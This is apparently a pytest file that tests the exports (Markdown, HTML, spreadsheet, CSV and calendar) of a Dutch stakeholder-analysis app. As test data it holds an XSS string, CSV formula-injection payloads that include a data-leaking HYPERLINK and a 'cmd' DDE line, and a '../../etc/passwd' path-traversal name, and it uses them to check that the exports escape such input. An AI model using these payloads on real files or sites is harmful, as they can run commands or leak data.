"""Worksheet documents, table exports and the calendar, from real DuckDB files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import os
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from icalendar import Calendar

from belangen import exports, worksheet
from belangen.sample import find_sample_projects, load_sample_project
from belangen.store import Store

TODAY = dt.datetime(2026, 3, 12, 10, 30)
SNAPSHOT = Path(__file__).parent / "snapshots" / "sample_project.md"
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def sample_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample project on the fixed day, loaded once for the module's tests to copy."""
    path = tmp_path_factory.mktemp("exports") / "sample.duckdb"
    store = Store(path, now=lambda: TODAY)
    load_sample_project(store)
    store.close()
    return path


@pytest.fixture
def db(tmp_path: Path, request: pytest.FixtureRequest, sample_template: Path):
    """The test's own database on the fixed day: a copy of the sample when it asks for one."""
    path = tmp_path / "belangen.duckdb"
    if "sample" in request.fixturenames:
        shutil.copyfile(sample_template, path)
    store = Store(path, now=lambda: TODAY)
    yield store
    store.close()


@pytest.fixture
def sample(db: Store) -> int:
    (project_id,) = find_sample_projects(db)
    return project_id


def hostile_project(db: Store) -> tuple[int, int]:
    project_id = db.create_project(HOSTILE, HOSTILE, HOSTILE, dt.date(2026, 1, 5))
    person = db.create_stakeholder(project_id, HOSTILE, HOSTILE, HOSTILE, HOSTILE)
    db.add_interest(person, HOSTILE, "political", "suspected", HOSTILE)
    db.add_interest(person, HOSTILE, "organisational", "confirmed", HOSTILE)
    for row in worksheet.DIMENSIONS:
        db.save_worksheet_entry(person, row.key, reflection=HOSTILE + "\n# kop\n- lijst", rating=3)
    db.add_action(person, "value", HOSTILE, planned_week=dt.date(2026, 3, 16))
    own = db.add_own_interest(project_id, HOSTILE, "other", True, HOSTILE)
    interest = db.list_interests(person)[1].id
    db.add_link(project_id, f"o{own}", f"i{interest}", "shared", HOSTILE + "\n# kop")
    db.add_option(project_id, HOSTILE, HOSTILE, serves=[f"o{own}"], costs=HOSTILE)
    return project_id, person


# --- Worksheet documents ---------------------------------------------------------------------


def test_sample_project_markdown_matches_the_reviewed_snapshot(db: Store, sample: int) -> None:
    text = exports.project_markdown(db, sample, lang="nl")
    if os.environ.get("BELANGEN_UPDATE_SNAPSHOTS") == "1":
        SNAPSHOT.parent.mkdir(exist_ok=True)
        SNAPSHOT.write_text(text, encoding="utf-8")
    assert text == SNAPSHOT.read_text(encoding="utf-8")


def test_document_follows_the_worksheet_rows(db: Store, sample: int) -> None:
    person = db.list_stakeholders(sample)[0]
    for lang in ("nl", "en"):
        text = exports.stakeholder_markdown(db, person.id, lang=lang)
        positions = [text.index(row.question(lang)) for row in worksheet.ROWS]
        assert positions == sorted(positions)
        for row in worksheet.ROWS:
            assert row.action_prompt(lang) in text
    assert "Is the other willing to negotiate" in exports.project_html(db, sample, lang="en")


def suspected_texts(db: Store, project_id: int) -> list[str]:
    return [
        interest.text
        for person in db.list_stakeholders(project_id)
        for interest in db.list_interests(person.id)
        if interest.status == "suspected"
    ]


@pytest.mark.parametrize("render", [exports.project_markdown, exports.project_html])
def test_hidden_interests_only_when_asked(db: Store, sample: int, render) -> None:
    hidden = suspected_texts(db, sample)
    assert hidden
    without = render(db, sample)
    with_hidden = render(db, sample, include_hidden=True)
    for text in hidden:
        probe = text[:40]
        assert probe not in without
        assert probe in with_hidden or probe.replace("'", "&#x27;") in with_hidden
    assert "Verborgen of vermoede belangen, en eigen belangen die niet op tafel" in without
    assert "Vertrouwelijk" in with_hidden


def test_the_collaboration_leaves_out_hypotheses_unless_asked(db: Store) -> None:
    """Suspected interests, own interests kept off the table, what rests on them, and whether
    an option serves everyone are all judged on what the document shows."""
    project_id = db.create_project("P", start_date=dt.date(2026, 1, 5))
    person = db.create_stakeholder(project_id, "Wethouder")
    open_interest = db.add_interest(person, "Woningen bouwen", "organisational", "confirmed")
    hunch = db.add_interest(person, "Herverkozen worden", "political", "suspected")
    aloud = db.add_own_interest(project_id, "Plan op tijd", "organisational", True, "")
    quiet = db.add_own_interest(project_id, "Mijn promotie", "individual", False, "")
    db.add_link(project_id, f"o{aloud}", f"i{open_interest}", "shared", "Samen tempo")
    db.add_link(project_id, f"o{quiet}", f"i{hunch}", "tension", "Botst stil")
    db.add_option(project_id, "Eerste paal", serves=[f"i{hunch}", f"o{aloud}"])
    for render in (exports.project_markdown, exports.project_html):
        without = render(db, project_id)
        for secret in ("Mijn promotie", "Herverkozen", "Botst stil", "iedereen wint"):
            assert secret not in without, (render.__name__, secret)
        for shown in ("Plan op tijd", "Samen tempo", "Eerste paal", "Gezamenlijk vertrekpunt"):
            assert shown in without, (render.__name__, shown)
        with_hidden = render(db, project_id, include_hidden=True)
        for secret in ("Mijn promotie", "Herverkozen", "Botst stil", "iedereen wint"):
            assert secret in with_hidden, (render.__name__, secret)


def test_stakeholder_export_leaves_out_hidden_signals_too(db: Store) -> None:
    project_id = db.create_project("P", start_date=dt.date(2026, 1, 5))
    person = db.create_stakeholder(project_id, "Iemand")
    db.add_interest(person, "Geheim belang", "individual", "suspected", "Geheim signaal")
    for render in (exports.stakeholder_markdown, exports.stakeholder_html):
        assert "Geheim" not in render(db, person)
        assert "Geheim signaal" in render(db, person, include_hidden=True)


def test_html_escapes_every_user_text(db: Store) -> None:
    project_id, person = hostile_project(db)
    for page in (
        exports.project_html(db, project_id, include_hidden=True),
        exports.stakeholder_html(db, person, include_hidden=True),
    ):
        lowered = page.lower()
        assert "<script" not in lowered
        assert "<img" not in lowered
        assert "&lt;script&gt;" in page
        assert "Content-Security-Policy" in page
        assert "http://" not in lowered and "https://" not in lowered  # self-contained
        assert "@media print" in page


def test_markdown_keeps_user_text_literal(db: Store) -> None:
    project_id, _person = hostile_project(db)
    text = exports.project_markdown(db, project_id, include_hidden=True)
    assert re.search(r"(?<!\\)<", text) is None  # every < escaped
    assert "\\<script\\>" in text
    assert "\n> \\# kop" in text and "\n> \\- lijst" in text


# --- Tables ----------------------------------------------------------------------------------


def comparable(value: Any) -> Any:
    """One representation per value, whatever pandas or Excel made of it (Excel stores times
    to the millisecond and an empty text as an empty cell)."""
    if (
        value is None
        or value is pd.NA
        or (isinstance(value, str) and value == "")
        or (isinstance(value, float) and math.isnan(value))
        or value is pd.NaT
    ):
        return None
    if isinstance(value, (pd.Timestamp, dt.datetime, dt.date)):
        return pd.Timestamp(value).round("ms")
    if isinstance(value, float) and value.is_integer():
        return int(value)
    if hasattr(value, "item"):
        return comparable(value.item())
    return value


def rows_of(frame: pd.DataFrame) -> list[tuple[Any, ...]]:
    return [tuple(comparable(v) for v in row) for row in frame.astype(object).itertuples(False)]


def test_xlsx_has_a_sheet_per_table_that_matches_it(db: Store, sample: int) -> None:
    hostile_project(db)
    db.create_project('=HYPERLINK("x")', start_date=dt.date(2026, 1, 5))
    frames = exports.table_frames(db)
    steps: list[float] = []

    data = exports.tables_xlsx(db, progress=lambda fraction, _key: steps.append(fraction))

    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None)
    assert list(sheets) == list(frames)
    for table, frame in frames.items():
        assert list(sheets[table].columns) == list(frame.columns), table
        assert rows_of(sheets[table]) == rows_of(frame), table
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    formula_cells = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formula_cells == []
    assert steps[-1] == 1.0


def test_csv_zip_has_every_table_whole(db: Store, sample: int) -> None:
    hostile_project(db)
    frames = exports.table_frames(db)
    with zipfile.ZipFile(io.BytesIO(exports.tables_csv_zip(db))) as archive:
        assert sorted(archive.namelist()) == sorted(f"{table}.csv" for table in frames)
        for table, frame in frames.items():
            back = pd.read_csv(io.BytesIO(archive.read(f"{table}.csv")), keep_default_na=False)
            assert list(back.columns) == list(frame.columns)
            assert len(back) == len(frame)
            text_columns = [c for c in frame.columns if frame[c].dtype == "string"]
            for column in text_columns:
                expected = frame[column].fillna("").astype(str).tolist()
                assert back[column].astype(str).tolist() == expected, (table, column)


# What a spreadsheet program treats as a formula (or the start of one) when a cell begins with
# it: OWASP's list for CSV injection. A leading apostrophe makes the cell text, and is not shown.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
    'a,"=1+1",b',
    "gewoon; =1+1",
]


def spreadsheet_cells(data: bytes) -> dict[str, list[list[str]]]:
    """Every CSV in the zip split into cells the way Excel or LibreOffice splits them: quotes
    removed, doubled quotes undone, separators inside quotes kept in the cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))
            for name in archive.namelist()
        }


def test_csv_cells_never_start_a_formula(db: Store) -> None:
    project_id = db.create_project(FORMULAS[0], "\n".join(FORMULAS), FORMULAS[1],
                                   dt.date(2026, 1, 5))
    for index, text in enumerate(FORMULAS):
        person = db.create_stakeholder(project_id, f"{text} {index}", text, text, text)
        db.add_interest(person, text, "political", "suspected", text)
        db.add_action(person, "value", text)
        db.save_worksheet_entry(person, "value", reflection=text, rating=3)
    db.update_project(project_id, None, name="=1+1 bijgewerkt", description="-",
                      own_goal="@x", start_date=dt.date(2026, 1, 5))  # and the change log

    tables = spreadsheet_cells(exports.tables_csv_zip(db))

    formulas = [
        (name, row_number, cell)
        for name, rows in tables.items()
        for row_number, row in enumerate(rows)
        for cell in row
        if cell.lstrip(" ").startswith(FORMULA_STARTS)
    ]
    assert formulas == [], formulas[:5]
    # Every text is still there, whole, behind the apostrophe that keeps it text.
    stored = [s.name for s in db.list_stakeholders(project_id)]
    header, *rows = tables["stakeholder.csv"]
    exported = [row[header.index("name")] for row in rows]
    assert sorted(name.removeprefix("'") for name in exported) == sorted(stored)
    assert sum(name.startswith("'") for name in exported) == 8


# --- Calendar --------------------------------------------------------------------------------


def planned_action_ids(db: Store, project_id: int) -> set[int]:
    open_actions = db.open_actions(project_id)
    return set(open_actions[open_actions["planned_week"].notna()]["id"].astype(int))


def events(data: bytes) -> list[Any]:
    return list(Calendar.from_ical(data).walk("VEVENT"))


def test_calendar_has_one_all_day_week_event_per_planned_action(db: Store, sample: int) -> None:
    expected = planned_action_ids(db, sample)
    assert len(expected) >= 4

    found = events(exports.actions_calendar(db, sample))

    assert len(found) == len(expected)
    assert len({str(event["UID"]) for event in found}) == len(found)
    for event in found:
        start = event.decoded("DTSTART")
        end = event.decoded("DTEND")
        assert type(start) is dt.date and start.weekday() == 0
        assert end - start == dt.timedelta(days=7)
        assert str(event["TRANSP"]) == "TRANSPARENT"
        assert event.decoded("DTSTAMP").tzinfo is not None


def test_calendar_uids_are_stable_and_edits_raise_the_sequence(db: Store, sample: int) -> None:
    before = {str(e["UID"]): e for e in events(exports.actions_calendar(db, sample))}
    person = db.list_stakeholders(sample)[0]
    action = next(a for a in db.list_actions(person.id) if a.is_open and a.planned_week)
    db.update_action(
        action.id,
        action.revision,
        text="Nieuwe tekst",
        planned_week=action.planned_week,
        status=action.status,
    )
    after = {str(e["UID"]): e for e in events(exports.actions_calendar(db, sample))}
    assert set(after) == set(before)
    changed = [uid for uid in after if str(after[uid]["SUMMARY"]).startswith("Nieuwe tekst")]
    assert len(changed) == 1
    assert int(after[changed[0]]["SEQUENCE"]) == int(before[changed[0]]["SEQUENCE"]) + 1


def test_calendar_without_project_leaves_the_sample_out(db: Store, sample: int) -> None:
    project_id, _person = hostile_project(db)
    found = events(exports.actions_calendar(db))
    assert len(found) == len(planned_action_ids(db, project_id)) == 1
    assert HOSTILE in str(found[0]["SUMMARY"])


FRIDAY_AFTERNOON = exports.CheckInReminder(weekday=4, start=dt.time(15, 30),
                                           address="http://localhost:8501/")


def check_ins(data: bytes) -> list[Any]:
    return [event for event in events(data) if "check-in" in str(event["UID"])]


def test_the_weekly_check_in_is_a_recurring_event_with_an_alarm(db: Store, sample: int) -> None:
    data = exports.actions_calendar(db, sample, reminder=FRIDAY_AFTERNOON)
    (event,) = check_ins(data)
    rule = event.decoded("RRULE")
    assert rule["FREQ"] == ["WEEKLY"] and rule["BYDAY"] == ["FR"]
    start = event.decoded("DTSTART")
    assert start.tzinfo is None, "floating local time: the user's own hour in any zone"
    assert start.weekday() == 4 and start.time() == dt.time(15, 30)
    assert 0 <= (start.date() - db.today()).days < 7, "the first one is the coming Friday"
    assert event.decoded("DURATION") == dt.timedelta(minutes=15)
    (alarm,) = event.walk("VALARM")
    assert str(alarm["ACTION"]) == "DISPLAY"
    assert alarm.decoded("TRIGGER") == dt.timedelta(0)
    assert "http://localhost:8501/" in str(event["DESCRIPTION"])
    assert len(events(data)) == len(planned_action_ids(db, sample)) + 1, "beside the actions"


def test_the_check_in_keeps_its_uid_so_a_second_import_replaces_it(db: Store, sample: int) -> None:
    first = check_ins(exports.actions_calendar(db, sample, reminder=FRIDAY_AFTERNOON))
    monday_morning = exports.CheckInReminder(weekday=0, start=dt.time(9, 0),
                                             address="http://localhost:8501/")
    second = check_ins(exports.actions_calendar(db, sample, reminder=monday_morning))
    assert [str(e["UID"]) for e in first] == [str(e["UID"]) for e in second]
    assert second[0].decoded("RRULE")["BYDAY"] == ["MO"]
    assert not check_ins(exports.actions_calendar(db, sample)), "no reminder unless asked"


def test_worksheet_file_names_carry_the_project_and_say_when_they_are_sensitive() -> None:
    assert exports.worksheet_file_stem("Wijkvernieuwing Hoogveld (voorbeeld)", None,
                                       include_hidden=False, lang="nl") == (
        "werkblad-wijkvernieuwing-hoogveld-voorbeeld")
    assert exports.worksheet_file_stem("Plein", "Anouk van Dijk-Özdemir", include_hidden=True,
                                       lang="nl") == (
        "werkblad-plein-anouk-van-dijk-ozdemir-met-vermoede-belangen")
    assert exports.worksheet_file_stem("Plein", None, include_hidden=True, lang="en") == (
        "worksheet-plein-with-suspected-interests")
    # Nothing of a name can reach outside the file name: no separators, dots or spaces.
    stem = exports.worksheet_file_stem("../../etc/passwd <x>", "a/b\\c", include_hidden=False,
                                       lang="nl")
    assert re.fullmatch(r"[a-z0-9-]+", stem), stem
